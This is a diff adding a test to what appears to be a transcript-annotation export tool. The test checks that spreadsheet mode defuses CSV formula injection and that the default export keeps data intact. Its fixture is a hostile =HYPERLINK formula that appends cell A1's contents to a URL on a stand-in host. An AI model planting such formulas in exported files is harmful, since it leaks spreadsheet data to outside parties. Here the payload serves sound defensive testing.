@@ -76,3 +76,14 @@ def test_an_output_that_is_a_pipe_or_a_link_is_written_through_never_replaced(de
         assert result.returncode == 0
     assert link.is_symlink() and real.read_bytes().startswith(b"<?xml")
     assert result.stdout.startswith(b"<?xml") and b"Wrote standard output" in result.stderr and not (demo_study / "-").exists()
+
+
+def test_spreadsheet_mode_keeps_formulas_inert_and_the_default_keeps_the_data(demo_study: Path) -> None:
+    memo = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"
+    store = AnnotationFile.open(demo_study / "transcripts" / "grp1-s01.ana.jsonl")
+    store.put(store.get(1)._replace(memo=memo))
+    exact = next(row for row in export(demo_study, "--coder", "ana") if row["turn"] == "1" and row["transcript"] == "grp1-s01")
+    assert exact["memo"] == memo  # R and pandas get the data as written
+    for args in ([], ["--wide"]):
+        safe = next(row for row in export(demo_study, "--coder", "ana", "--spreadsheet", *args) if row["turn"] == "1" and row["transcript"] == "grp1-s01")
+        assert safe["memo"] == "'" + memo and safe["speaker"] == "Therapist"  # a spreadsheet shows it, never runs it
